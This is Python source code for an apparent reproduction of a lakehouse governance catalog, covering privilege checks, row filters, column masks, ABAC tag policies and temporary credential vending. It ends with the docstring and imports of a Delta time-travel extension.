        #: ``LAKEGUARD_CHAOS_*`` environment variables) arms faults in one
        #: place and every layer's recovery machinery gets exercised.
        self.faults = FaultInjector(clock=self.clock, telemetry=self.telemetry)
        self.faults.arm_from_env()
        self.store = store or ObjectStore(clock=self.clock, audit=None)
        self.store.faults = self.faults
        self.vendor = CredentialVendor(clock=self.clock, telemetry=self.telemetry)
        self.vendor.faults = self.faults
        # Storage checks liveness with the issuing vendor on every access:
        # revoking a credential (or an identity) takes effect immediately,
        # even for an attacker replaying a previously captured credential.
        self.store.vendor = self.vendor
        self.principals = PrincipalDirectory()
        self.grants = PrivilegeStore()
        self._catalogs: dict[str, CatalogObject] = {}
        self._row_filters: dict[str, RowFilter] = {}
        self._column_masks: dict[str, dict[str, ColumnMask]] = {}
        #: Monotonic governance version: any change that could alter what a
        #: user may see (grants, policies, view definitions, ABAC) bumps it.
        #: Enforcement caches key on this epoch, so a stale epoch is a hard
        #: miss — a policy change can never serve a stale cached artifact.
        self._policy_epoch = 0
        #: Monotonic *data* version: every governed write (append/overwrite,
        #: MV refresh, table create/drop) bumps it. The persistent result
        #: cache keys on (policy epoch, data epoch) so cached result bytes
        #: can survive neither a governance change nor a table mutation.
        self._data_epoch = 0
        self._epoch_lock = threading.Lock()
        #: Named cache-statistics providers backing ``system.access.cache_stats``.
        self._cache_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: Named workload-statistics providers (admission queues, breakers)
        #: backing ``system.access.workload_stats``.
        self._workload_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: Named fault/recovery-statistics providers (the chaos engine and
        #: each cluster's recovery layer) backing ``system.access.fault_stats``.
        self._fault_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: Named persistence-tier providers (artifact stores, result
        #: caches) backing ``system.access.store_stats``.
        self._store_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: Named attack-gauntlet providers (per-scenario runs/contained/
        #: leaked counters) backing ``system.access.attack_stats``.
        self._attack_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: Named transaction-tier providers (commit/abort/conflict/retry
        #: counters) backing ``system.access.txn_stats``.
        self._txn_stats_providers: dict[str, Callable[[], dict[str, Any]]] = {}
        #: The catalog-wide transaction manager, created lazily by the
        #: :attr:`txn_manager` property (the txn tier imports catalog types).
        self._txn_manager: Any = None
        self.register_fault_stats_provider(
            "faults[catalog]", self.faults.stats_snapshot
        )
        #: Attribute-based access control: tags + tag policies (§2.3 ABAC).
        self.tags = TagStore()
        self.tags.on_change = lambda: self.bump_policy_epoch("abac-update")
        #: The catalog service's own storage identity: it manages the managed
        #: root on behalf of users (users never hold this credential).
        self._service_credential = InstanceProfileCredential(
            token="unity-catalog-service",
            cluster_id="unity-catalog",
            prefixes=(MANAGED_ROOT,),
        )

    # ------------------------------------------------------------------
    # Policy epoch: invalidation token for every enforcement cache
    # ------------------------------------------------------------------

    @property
    def policy_epoch(self) -> int:
        """Current governance version; caches must key on this value."""
        return self._policy_epoch

    def bump_policy_epoch(self, reason: str = "") -> int:
        """Advance the epoch (any grant/policy/view/ABAC change calls this)."""
        with self._epoch_lock:
            self._policy_epoch += 1
            epoch = self._policy_epoch
        self.telemetry.counter("catalog.policy_epoch_bumps").inc()
        return epoch

    @property
    def data_epoch(self) -> int:
        """Current data version; the result cache keys on this value."""
        return self._data_epoch

    def bump_data_epoch(self, reason: str = "") -> int:
        """Advance the data epoch (every governed write path calls this)."""
        with self._epoch_lock:
            self._data_epoch += 1
            epoch = self._data_epoch
        self.telemetry.counter("catalog.data_epoch_bumps").inc()
        return epoch

    # ------------------------------------------------------------------
    # Cache-statistics registry (``system.access.cache_stats``)
    # ------------------------------------------------------------------

    def register_cache_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one cache's counters through the introspection table."""
        self._cache_stats_providers[name] = provider

    def cache_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of every registered cache's statistics, by cache name."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._cache_stats_providers.items())
        }

    # ------------------------------------------------------------------
    # Workload-statistics registry (``system.access.workload_stats``)
    # ------------------------------------------------------------------

    def register_workload_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one scheduler component (a cluster's workload manager, a
        circuit breaker) through the introspection table."""
        self._workload_stats_providers[name] = provider

    def workload_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of every registered scheduler's statistics, by scope."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._workload_stats_providers.items())
        }

    # ------------------------------------------------------------------
    # Fault-statistics registry (``system.access.fault_stats``)
    # ------------------------------------------------------------------

    def register_fault_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one fault/recovery source through the introspection table."""
        self._fault_stats_providers[name] = provider

    def fault_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of injected-fault triggers and recovery counters, by scope."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._fault_stats_providers.items())
        }

    # ------------------------------------------------------------------
    # Store-statistics registry (``system.access.store_stats``)
    # ------------------------------------------------------------------

    def register_store_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one persistence-tier component (a cluster's artifact
        store or result cache) through the introspection table."""
        self._store_stats_providers[name] = provider

    def store_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of every registered store's statistics, by scope."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._store_stats_providers.items())
        }

    # ------------------------------------------------------------------
    # Attack-statistics registry (``system.access.attack_stats``)
    # ------------------------------------------------------------------

    def register_attack_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one attack-gauntlet run (per-scenario runs/contained/
        leaked counters) through the introspection table."""
        self._attack_stats_providers[name] = provider

    def attack_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of every registered gauntlet's counters, by scope."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._attack_stats_providers.items())
        }

    # ------------------------------------------------------------------
    # Transaction-statistics registry (``system.access.txn_stats``)
    # ------------------------------------------------------------------

    def register_txn_stats_provider(
        self, name: str, provider: Callable[[], dict[str, Any]]
    ) -> None:
        """Expose one transaction manager's counters (begun/committed/
        aborted/conflicts/retries) through the introspection table."""
        self._txn_stats_providers[name] = provider

    def txn_stats(self) -> dict[str, dict[str, Any]]:
        """Snapshot of every registered transaction tier's counters."""
        return {
            name: dict(provider())
            for name, provider in sorted(self._txn_stats_providers.items())
        }

    @property
    def txn_manager(self) -> Any:
        """The catalog-wide transaction manager (created on first use).

        Lazy so the catalog module does not import the transaction tier at
        definition time (the tier imports catalog types); the first SQL
        write statement or explicit BEGIN materializes it.
        """
        if self._txn_manager is None:
            from repro.txn import TransactionManager

            self._txn_manager = TransactionManager(self)
        return self._txn_manager

    # ------------------------------------------------------------------
    # Auditing helper
    # ------------------------------------------------------------------

    def _audit(self, ctx: UserContext, action: str, resource: str, allowed: bool,
               **details: Any) -> None:
        self.audit.record(
            timestamp=self.clock.now(),
            principal=ctx.user,
            action=action,
            resource=resource,
            allowed=allowed,
            **details,
        )

    # ------------------------------------------------------------------
    # Namespace CRUD
    # ------------------------------------------------------------------

    def create_catalog(self, name: str, owner: str) -> CatalogObject:
        """Create a top-level catalog owned by ``owner``."""
        if name in self._catalogs:
            raise SecurableAlreadyExists(f"catalog '{name}' already exists")
        catalog = CatalogObject(name=name, owner=owner)
        self._catalogs[name] = catalog
        return catalog

    def create_schema(self, full_name: str, owner: str) -> SchemaObject:
        """Create a schema (``catalog.schema``) owned by ``owner``."""
        parts = full_name.split(".")
        if len(parts) != 2:
            raise SecurableNotFound(f"'{full_name}' is not 'catalog.schema'")
        catalog = self._catalog(parts[0])
        if parts[1] in catalog.schemas:
            raise SecurableAlreadyExists(f"schema '{full_name}' already exists")
        schema = SchemaObject(full_name=full_name, owner=owner)
        catalog.schemas[parts[1]] = schema
        return schema

    def _catalog(self, name: str) -> CatalogObject:
        try:
            return self._catalogs[name]
        except KeyError:
            raise SecurableNotFound(f"catalog '{name}' does not exist") from None

    def _schema(self, catalog_name: str, schema_name: str) -> SchemaObject:
        catalog = self._catalog(catalog_name)
        try:
            return catalog.schemas[schema_name]
        except KeyError:
            raise SecurableNotFound(
                f"schema '{catalog_name}.{schema_name}' does not exist"
            ) from None

    def _register(self, obj: Securable) -> None:
        cat, sch, name = split_name(obj.full_name)
        schema = self._schema(cat, sch)
        if name in schema.objects:
            raise SecurableAlreadyExists(f"'{obj.full_name}' already exists")
        schema.objects[name] = obj

    def transfer_ownership(
        self, full_name: str, new_owner: str, ctx: UserContext
    ) -> None:
        """Transfer a securable to a new owner (current owner/admin only)."""
        obj = self.get_object(full_name)
        self._require_owner_or_admin(ctx, obj.owner, full_name, "transfer_ownership")
        if not (
            self.principals.is_user(new_owner) or self.principals.is_group(new_owner)
        ):
            raise SecurableNotFound(f"principal '{new_owner}' does not exist")
        obj.owner = new_owner
        self.bump_policy_epoch("transfer-ownership")

    def drop_object(self, full_name: str, ctx: UserContext) -> None:
        """Drop a securable (owner/admin only); its policies go with it."""
        obj = self.get_object(full_name)
        self._require_owner_or_admin(ctx, obj.owner, full_name, "drop")
        cat, sch, name = split_name(full_name)
        del self._schema(cat, sch).objects[name]
        self._row_filters.pop(full_name, None)
        self._column_masks.pop(full_name, None)
        self.bump_data_epoch("drop-object")
        self.bump_policy_epoch("drop-object")

    def get_object(self, full_name: str) -> Securable:
        cat, sch, name = split_name(full_name)
        schema = self._schema(cat, sch)
        try:
            return schema.objects[name]
        except KeyError:
            raise SecurableNotFound(f"'{full_name}' does not exist") from None

    def object_exists(self, full_name: str) -> bool:
        try:
            self.get_object(full_name)
            return True
        except SecurableNotFound:
            return False

    def list_objects(self, schema_full_name: str) -> list[str]:
        cat, sch = schema_full_name.split(".", 1)
        schema = self._schema(cat, sch)
        return sorted(schema.objects)

    # -- tables --------------------------------------------------------------

    def create_table(
        self,
        full_name: str,
        schema: Schema,
        owner: str,
        comment: str = "",
    ) -> TableObject:
        """Create a managed table: metadata plus empty versioned storage."""
        cat, sch, name = split_name(full_name)
        root = f"{MANAGED_ROOT}/{cat}/{sch}/{name}"
        table = TableObject(
            full_name=full_name,
            schema=schema,
            storage_root=root,
            owner=owner,
            comment=comment,
        )
        self._register(table)
        LakeTableStorage(self.store, root).create(
            schema.names, self._service_credential
        )
        self.bump_data_epoch("create-table")
        return table

    def get_table(self, full_name: str) -> TableObject:
        obj = self.get_object(full_name)
        if not isinstance(obj, TableObject):
            raise SecurableNotFound(f"'{full_name}' is not a table ({obj.kind})")
        return obj

    def table_storage(self, table: TableObject) -> LakeTableStorage:
        return LakeTableStorage(self.store, table.storage_root)

    def current_table_version(self, full_name: str) -> int:
        """Latest *durable* committed version of a managed table.

        Resolved through :meth:`~repro.storage.table_format.LakeTableStorage
        .snapshot` with the catalog's service identity, so a torn tip left
        by a crashed writer is skipped — transactions pin their snapshot
        here and must never pin an unreadable version.
        """
        table = self.get_table(full_name)
        return (
            self.table_storage(table)
            .snapshot(self._service_credential)
            .version
        )

    def write_table(
        self,
        full_name: str,
        columns: dict[str, list[Any]],
        ctx: UserContext,
        overwrite: bool = False,
    ) -> None:
        """Governed write path: requires MODIFY, uses a vended credential."""
        table = self.get_table(full_name)
        self.check_privilege(ctx, MODIFY, full_name)
        # DELETE rides along so a writer that trips over a torn tip (a
        # crashed commit occupying the next version) can roll it back.
        credential = self.vendor.issue(
            identity=ctx.user,
            prefixes=[table.storage_root],
            operations={READ, WRITE, LIST, DELETE},
        )
        storage = self.table_storage(table)
        if overwrite:
            storage.overwrite(columns, credential)
        else:
            storage.append(columns, credential)
        self.vendor.revoke(credential.token)
        self.bump_data_epoch("write-table")

    # -- views / functions / volumes --------------------------------------------

    def create_view(self, full_name: str, sql_text: str, owner: str,
                    comment: str = "") -> ViewObject:
        view = ViewObject(full_name=full_name, sql_text=sql_text, owner=owner,
                          comment=comment)
        self._register(view)
        self.bump_policy_epoch("view-definition")
        return view

    def create_materialized_view(
        self, full_name: str, sql_text: str, owner: str, comment: str = ""
    ) -> MaterializedViewObject:
        """Create a materialized view (stale until its first refresh)."""
        cat, sch, name = split_name(full_name)
        root = f"{MANAGED_ROOT}/{cat}/{sch}/__mv__{name}"
        view = MaterializedViewObject(
            full_name=full_name,
            sql_text=sql_text,
            owner=owner,
            materialized_root=root,
            comment=comment,
        )
        self._register(view)
        self.bump_policy_epoch("view-definition")
        return view

    def store_materialization(
        self,
        full_name: str,
        schema: Schema,
        columns: dict[str, list[Any]],
    ) -> None:
        """Persist refreshed materialized-view data (trusted refresh path)."""
        view = self.get_object(full_name)
        if not isinstance(view, MaterializedViewObject):
            raise SecurableNotFound(f"'{full_name}' is not a materialized view")
        storage = LakeTableStorage(self.store, view.materialized_root)
        if storage.latest_version(self._service_credential) < 0:
            storage.create(schema.names, self._service_credential)
            storage.append(columns, self._service_credential)
        else:
            storage.overwrite(columns, self._service_credential)
        view.schema = schema
        view.stale = False
        self.bump_data_epoch("mv-refresh")
        # Freshness flips resolution from live expansion to materialized
        # scan, so plans cached before the refresh must not survive it.
        self.bump_policy_epoch("mv-refresh")

    def create_function(
        self, full_name: str, udf: PythonUDF, owner: str, comment: str = ""
    ) -> FunctionObject:
        """Catalog a UDF; its owner becomes the code's trust domain."""
        function = FunctionObject(
            full_name=full_name, udf=udf, owner=owner, comment=comment
        )
        self._register(function)
        return function

    def get_function(self, full_name: str, ctx: UserContext) -> PythonUDF:
        """EXECUTE-checked lookup of a cataloged UDF, stamped with its owner."""
        obj = self.get_object(full_name)
        if not isinstance(obj, FunctionObject):
            raise SecurableNotFound(f"'{full_name}' is not a function ({obj.kind})")
        self.check_privilege(ctx, "EXECUTE", full_name)
        return obj.resolved_udf()

    def create_volume(self, full_name: str, owner: str,
                      storage_root: str | None = None) -> VolumeObject:
        cat, sch, name = split_name(full_name)
        root = storage_root or f"{MANAGED_ROOT}/{cat}/{sch}/__vol__{name}"
        volume = VolumeObject(full_name=full_name, storage_root=root, owner=owner)
        self._register(volume)
        return volume

    # ------------------------------------------------------------------
    # Privileges
    # ------------------------------------------------------------------

    def grant(self, privilege: str, securable: str, principal: str) -> None:
        self.grants.grant(privilege, securable, principal)
        self.bump_policy_epoch("grant")

    def revoke(self, privilege: str, securable: str, principal: str) -> None:
        self.grants.revoke(privilege, securable, principal)
        self.bump_policy_epoch("revoke")

    def grant_checked(
        self, ctx: UserContext, privilege: str, securable: str, principal: str
    ) -> None:
        """GRANT executed by a user: requires ownership, MANAGE, or admin."""
        self._require_manage(ctx, securable, "grant")
        self.grant(privilege, securable, principal)

    def revoke_checked(
        self, ctx: UserContext, privilege: str, securable: str, principal: str
    ) -> None:
        self._require_manage(ctx, securable, "revoke")
        self.revoke(privilege, securable, principal)

    def _require_manage(self, ctx: UserContext, securable: str, action: str) -> None:
        principals = ctx.principals()
        owner = self._owner_of(securable)
        allowed = (
            (owner is not None and owner in principals)
            or (not ctx.is_down_scoped and self.principals.is_admin(ctx.user))
            or self.grants.has(MANAGE, securable, principals)
        )
        self._audit(ctx, f"catalog.{action}", securable, allowed)
        if not allowed:
            raise PermissionDenied(ctx.user, MANAGE, securable)

    def _owner_of(self, full_name: str) -> str | None:
        parts = full_name.split(".")
        try:
            if len(parts) == 1:
                return self._catalog(parts[0]).owner
            if len(parts) == 2:
                return self._schema(parts[0], parts[1]).owner
            return self.get_object(full_name).owner
        except SecurableNotFound:
            return None

    def has_privilege(self, ctx: UserContext, privilege: str, full_name: str) -> bool:
        """Non-raising check, including hierarchy and ownership rules."""
        principals = ctx.principals()
        # Metastore admins bypass (never under down-scoping).
        if not ctx.is_down_scoped and self.principals.is_admin(ctx.user):
            return True
        owner = self._owner_of(full_name)
        if owner is not None and owner in principals:
            return True
        parts = full_name.split(".")
        if len(parts) >= 2:
            if not self._has_or_owns(principals, USE_CATALOG, parts[0]):
                return False
        if len(parts) >= 3:
            if not self._has_or_owns(principals, USE_SCHEMA, f"{parts[0]}.{parts[1]}"):
                return False
        return self.grants.has(privilege, full_name, principals)

    def _has_or_owns(self, principals: frozenset[str], privilege: str,
                     securable: str) -> bool:
        owner = self._owner_of(securable)
        if owner is not None and owner in principals:
            return True
        return self.grants.has(privilege, securable, principals)

    def check_privilege(self, ctx: UserContext, privilege: str, full_name: str) -> None:
        allowed = self.has_privilege(ctx, privilege, full_name)
        self._audit(ctx, f"catalog.check.{privilege.lower()}", full_name, allowed,
                    down_scoped=ctx.is_down_scoped)
        if not allowed:
            raise PermissionDenied(ctx.user, privilege, full_name)

    # ------------------------------------------------------------------
    # Policies
    # ------------------------------------------------------------------

    def set_row_filter(self, full_name: str, rf: RowFilter, ctx: UserContext) -> None:
        table = self.get_table(full_name)
        self._require_owner_or_admin(ctx, table.owner, full_name, "set row filter")
        rf.validate(table.schema)
        self._row_filters[full_name] = rf
        self.bump_policy_epoch("row-filter")

    def drop_row_filter(self, full_name: str, ctx: UserContext) -> None:
        table = self.get_table(full_name)
        self._require_owner_or_admin(ctx, table.owner, full_name, "drop row filter")
        self._row_filters.pop(full_name, None)
        self.bump_policy_epoch("row-filter")

    def set_column_mask(self, full_name: str, mask: ColumnMask, ctx: UserContext) -> None:
        table = self.get_table(full_name)
        self._require_owner_or_admin(ctx, table.owner, full_name, "set column mask")
        mask.validate(table.schema)
        self._column_masks.setdefault(full_name, {})[mask.column] = mask
        self.bump_policy_epoch("column-mask")

    def drop_column_mask(self, full_name: str, column: str, ctx: UserContext) -> None:
        table = self.get_table(full_name)
        self._require_owner_or_admin(ctx, table.owner, full_name, "drop column mask")
        self._column_masks.get(full_name, {}).pop(column, None)
        self.bump_policy_epoch("column-mask")

    def _require_owner_or_admin(self, ctx: UserContext, owner: str,
                                full_name: str, action: str) -> None:
        allowed = owner in ctx.principals() or (
            not ctx.is_down_scoped and self.principals.is_admin(ctx.user)
        )
        self._audit(ctx, f"catalog.{action.replace(' ', '_')}", full_name, allowed)
        if not allowed:
            raise PermissionDenied(ctx.user, "OWNERSHIP", full_name)

    def row_filter_of(self, full_name: str) -> RowFilter | None:
        """Effective row filter: explicit ANDed with ABAC tag policies."""
        explicit = self._row_filters.get(full_name)
        tag_conditions = self.tags.row_filters_for(full_name)
        conditions = ([explicit.condition] if explicit else []) + tag_conditions
        if not conditions:
            return None
        combined = conditions[0]
        for condition in conditions[1:]:
            from repro.engine.expressions import BooleanOp

            combined = BooleanOp("AND", combined, condition)
        created_by = explicit.created_by if explicit else "<abac>"
        return RowFilter(full_name, combined, created_by)

    def column_masks_of(self, full_name: str) -> tuple[ColumnMask, ...]:
        """Effective masks: explicit masks win per column, ABAC fills in."""
        explicit = dict(self._column_masks.get(full_name, {}))
        try:
            columns = self.get_table(full_name).schema.names
        except SecurableNotFound:
            columns = []
        for column, mask_expr in self.tags.masks_for(full_name, columns).items():
            if column not in explicit:
                explicit[column] = ColumnMask(
                    full_name, column, mask_expr, created_by="<abac>"
                )
        return tuple(explicit.values())

    def has_policies(self, full_name: str) -> bool:
        """Does the table carry any FGAC policy (explicit or ABAC-derived)?"""
        if full_name in self._row_filters or self._column_masks.get(full_name):
            return True
        try:
            columns = self.get_table(full_name).schema.names
        except SecurableNotFound:
            return False
        return self.tags.has_policies_for(full_name, columns)

    # ------------------------------------------------------------------
    # Relation resolution for compute
    # ------------------------------------------------------------------

    def relation_metadata(
        self, full_name: str, ctx: UserContext, caps: ComputeCapabilities
    ) -> RelationMetadata:
        """Resolve and authorize a relation for (user, compute).

        Privilege scope rule (§3.4): compute that cannot enforce FGAC locally
        receives only *basic* metadata for policy-bearing relations and all
        views — annotated so the planner routes them to external FGAC.
        """
        obj = self.get_object(full_name)
        self.check_privilege(ctx, SELECT, full_name)

        if isinstance(obj, TableObject):
            needs_external = requires_external_fgac(
                self.has_policies(full_name), caps
            )
            if needs_external:
                return RelationMetadata(
                    kind=obj.kind,
                    full_name=full_name,
                    owner=obj.owner,
                    schema=obj.schema,
                    annotations=frozenset({ANNOTATION_REQUIRES_EXTERNAL_FGAC}),
                )
            return RelationMetadata(
                kind=obj.kind,
                full_name=full_name,
                owner=obj.owner,
                schema=obj.schema,
                storage_root=obj.storage_root,
                row_filter=self.row_filter_of(full_name),
                column_masks=self.column_masks_of(full_name),
            )

        if isinstance(obj, MaterializedViewObject):
            if not caps.can_enforce_fgac_locally:
                return RelationMetadata(
                    kind=obj.kind,
                    full_name=full_name,
                    owner=obj.owner,
                    schema=obj.schema,
                    annotations=frozenset({ANNOTATION_REQUIRES_EXTERNAL_FGAC}),
                )
            return RelationMetadata(
                kind=obj.kind,
                full_name=full_name,
                owner=obj.owner,
                schema=obj.schema,
                view_text=obj.sql_text,
                materialized_root=obj.materialized_root,
                materialized_stale=obj.stale,
            )

        if isinstance(obj, ViewObject):
            if not caps.can_enforce_fgac_locally:
                # View *text* may reference tables the user cannot see;
                # privileged compute never receives it.
                return RelationMetadata(
                    kind=obj.kind,
                    full_name=full_name,
                    owner=obj.owner,
                    annotations=frozenset({ANNOTATION_REQUIRES_EXTERNAL_FGAC}),
                )
            return RelationMetadata(
                kind=obj.kind,
                full_name=full_name,
                owner=obj.owner,
                view_text=obj.sql_text,
            )

        raise SecurableNotFound(f"'{full_name}' is not a readable relation")

    def table_ref(self, metadata: RelationMetadata) -> TableRef:
        """Engine-facing handle for a resolved table."""
        if metadata.schema is None:
            raise SecurableNotFound(
                f"'{metadata.full_name}' has no schema visible to this compute"
            )
        return TableRef(
            full_name=metadata.full_name,
            schema=metadata.schema,
            storage_root=metadata.storage_root,
            owner=metadata.owner,
            annotations=metadata.annotations,
        )

    # ------------------------------------------------------------------
    # Credential vending
    # ------------------------------------------------------------------

    def vend_credential(
        self,
        ctx: UserContext,
        full_name: str,
        operations: set[str],
        caps: ComputeCapabilities,
        on_behalf_of: str | None = None,
    ) -> TemporaryCredential:
        """Exchange identity + privilege for a temporary storage credential.

        Refused when the target has FGAC policies and the compute cannot
        enforce them — that compute must use eFGAC and never sees raw bytes.
        """
        obj = self.get_object(full_name)
        if isinstance(obj, TableObject):
            storage_root = obj.storage_root
        elif isinstance(obj, MaterializedViewObject):
            storage_root = obj.materialized_root
        else:
            raise SecurableNotFound(f"'{full_name}' has no direct storage")
        privilege = MODIFY if WRITE in operations else SELECT
        self.check_privilege(ctx, privilege, full_name)

        needs_external = requires_external_fgac(self.has_policies(full_name), caps)
        if isinstance(obj, MaterializedViewObject):
            # MV data embeds the view's own governance; the raw bytes are
            # only safe on compute that isolates user code.
            needs_external = needs_external or not caps.can_enforce_fgac_locally
        if needs_external:
            self._audit(
                ctx, "catalog.vend_credential", full_name, False,
                reason="requires_external_fgac", compute=caps.compute_id,
            )
            raise PermissionDenied(ctx.user, "DIRECT_ACCESS", full_name)

        credential = self.vendor.issue(
            identity=ctx.user,
            prefixes=[storage_root],
            operations=operations,
            compute_id=caps.compute_id,
        )
        self._audit(
            ctx, "catalog.vend_credential", full_name, True,
            compute=caps.compute_id, token=credential.token,
            on_behalf_of=on_behalf_of,
        )
        return credential

    def vend_path_credential(
        self,
        ctx: UserContext,
        volume_name: str,
        operations: set[str],
        caps: ComputeCapabilities,
    ) -> TemporaryCredential:
        """Path-based access through a governed volume."""
        volume = self.get_object(volume_name)
        if not isinstance(volume, VolumeObject):
            raise SecurableNotFound(f"'{volume_name}' is not a volume")
        privilege = "WRITE_VOLUME" if WRITE in operations else "READ_VOLUME"
        self.check_privilege(ctx, privilege, volume_name)
        credential = self.vendor.issue(
            identity=ctx.user,
            prefixes=[volume.storage_root],
            operations=operations,
            compute_id=caps.compute_id,
        )
        self._audit(ctx, "catalog.vend_path_credential", volume_name, True,
                    compute=caps.compute_id)
        return credential
