"""Attribute-based access control (ABAC) — §2.3's "dynamic access policies".

Instead of attaching a policy to each table, administrators tag securables
and columns (``pii``, ``confidential``, ``export_restricted``) and write
policies *over tags*:

- :class:`TagMaskPolicy` — mask every column carrying a tag, unless the
  querying user is in an exempt group;
- :class:`TagRowFilterPolicy` — apply a row filter to every table carrying
  a tag.

The catalog compiles matching tag policies into ordinary
:class:`~repro.catalog.policies.ColumnMask` / :class:`~repro.catalog.policies.RowFilter`
objects at resolution time, so enforcement (SecureView injection, eFGAC
routing, pushdown barriers) is identical to explicitly-attached policies.
Exemptions compile into ``IS_ACCOUNT_GROUP_MEMBER`` branches — evaluated at
run time against the querying session, like dynamic views.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable

from repro.engine.expressions import (
    BooleanOp,
    CaseWhen,
    Expression,
    IsAccountGroupMember,
    UnresolvedColumn,
)
from repro.errors import PolicyError

#: Builds the masked replacement for a column (receives the column name).
MaskBuilder = Callable[[str], Expression]


def redact_builder(replacement: str = "[REDACTED]") -> MaskBuilder:
    """Mask builder replacing values with a constant."""
    from repro.engine.expressions import Literal

    def build(column: str) -> Expression:
        return Literal(replacement)

    return build


def hash_builder() -> MaskBuilder:
    """Mask builder replacing values with their SHA-256 (joinable mask)."""
    from repro.engine.expressions import FunctionCall

    def build(column: str) -> Expression:
        return FunctionCall("sha256", (UnresolvedColumn(column),))

    return build


@dataclass(frozen=True)
class TagMaskPolicy:
    """Mask all columns tagged ``tag`` unless the user is exempt."""

    name: str
    tag: str
    mask_builder: MaskBuilder
    exempt_groups: frozenset[str] = frozenset()

    def compile_mask(self, column: str) -> Expression:
        masked = self.mask_builder(column)
        if not self.exempt_groups:
            return masked
        exemption = _any_group_member(self.exempt_groups)
        return CaseWhen([(exemption, UnresolvedColumn(column))], masked)


@dataclass(frozen=True)
class TagRowFilterPolicy:
    """Row-filter every table tagged ``tag`` unless the user is exempt."""

    name: str
    tag: str
    condition: Expression
    exempt_groups: frozenset[str] = frozenset()

    def compile_condition(self) -> Expression:
        if not self.exempt_groups:
            return self.condition
        return BooleanOp(
            "OR", _any_group_member(self.exempt_groups), self.condition
        )


def _any_group_member(groups: frozenset[str]) -> Expression:
    expr: Expression | None = None
    for group in sorted(groups):
        test: Expression = IsAccountGroupMember(group)
        expr = test if expr is None else BooleanOp("OR", expr, test)
    assert expr is not None
    return expr


@dataclass
class TagStore:
    """Tag assignments plus the registered tag policies."""

    _table_tags: dict[str, set[str]] = field(default_factory=dict)
    _column_tags: dict[str, dict[str, set[str]]] = field(default_factory=dict)
    _mask_policies: dict[str, TagMaskPolicy] = field(default_factory=dict)
    _filter_policies: dict[str, TagRowFilterPolicy] = field(default_factory=dict)
    #: Invoked after every mutation; the catalog hooks its policy-epoch bump
    #: here so ABAC changes invalidate cached secure plans like any policy.
    on_change: Callable[[], None] | None = None

    def _changed(self) -> None:
        if self.on_change is not None:
            self.on_change()

    # -- tagging ---------------------------------------------------------------

    def tag_table(self, table: str, tag: str) -> None:
        self._table_tags.setdefault(table, set()).add(tag)
        self._changed()

    def untag_table(self, table: str, tag: str) -> None:
        self._table_tags.get(table, set()).discard(tag)
        self._changed()

    def tag_column(self, table: str, column: str, tag: str) -> None:
        self._column_tags.setdefault(table, {}).setdefault(column, set()).add(tag)
        self._changed()

    def untag_column(self, table: str, column: str, tag: str) -> None:
        self._column_tags.get(table, {}).get(column, set()).discard(tag)
        self._changed()

    def table_tags(self, table: str) -> frozenset[str]:
        return frozenset(self._table_tags.get(table, set()))

    def column_tags(self, table: str, column: str) -> frozenset[str]:
        return frozenset(self._column_tags.get(table, {}).get(column, set()))

    # -- policies ----------------------------------------------------------------

    def register(self, policy: TagMaskPolicy | TagRowFilterPolicy) -> None:
        """Install (or replace) a tag policy by name."""
        if isinstance(policy, TagMaskPolicy):
            self._mask_policies[policy.name] = policy
        elif isinstance(policy, TagRowFilterPolicy):
            self._filter_policies[policy.name] = policy
        else:
            raise PolicyError(f"unknown ABAC policy type {type(policy).__name__}")
        self._changed()

    def unregister(self, name: str) -> None:
        self._mask_policies.pop(name, None)
        self._filter_policies.pop(name, None)
        self._changed()

    # -- compilation ----------------------------------------------------------------

    def masks_for(self, table: str, columns: list[str]) -> dict[str, Expression]:
        """column -> compiled mask expression, for tag-matching columns."""
        out: dict[str, Expression] = {}
        for column in columns:
            tags = self.column_tags(table, column)
            for policy in self._mask_policies.values():
                if policy.tag in tags and column not in out:
                    out[column] = policy.compile_mask(column)
        return out

    def row_filters_for(self, table: str) -> list[Expression]:
        """Compiled row-filter conditions from tag policies on this table."""
        tags = self.table_tags(table)
        return [
            policy.compile_condition()
            for policy in self._filter_policies.values()
            if policy.tag in tags
        ]

    def has_policies_for(self, table: str, columns: list[str]) -> bool:
        return bool(self.row_filters_for(table)) or bool(
            self.masks_for(table, columns)
        )
