"""The Delta extension for Spark Connect (§3.2.2's named example).

Provides the Delta-specific relation and command types as protocol
extensions, without modifying the core protocol:

- relation ``delta.time_travel`` — read a table at a historical version;
  governance is *not* bypassed: resolution goes through the ordinary
  governed path, so row filters, masks and eFGAC routing apply to old
  versions exactly as to the latest.
- command ``delta.history`` — the table's commit history (SELECT-checked).
- command ``delta.vacuum`` — physically delete data files no longer
  referenced by the latest snapshot (ownership-checked).

Client-side helpers (:func:`time_travel_relation`, :func:`history_command`,
:func:`vacuum_command`) build the wire messages; they depend only on the
protocol, mirroring how a real Connect plugin ships a thin client.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from repro.connect import proto
from repro.engine.logical import LogicalPlan, SubqueryAlias, UnresolvedRelation
from repro.errors import ProtocolError
from repro.storage.table_format import LakeTableStorage

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.connect.sessions import SessionState
    from repro.core.extensions import ExtensionRegistry
    from repro.core.lakeguard import LakeguardCluster
    from repro.core.plan_codec import PlanDecoder


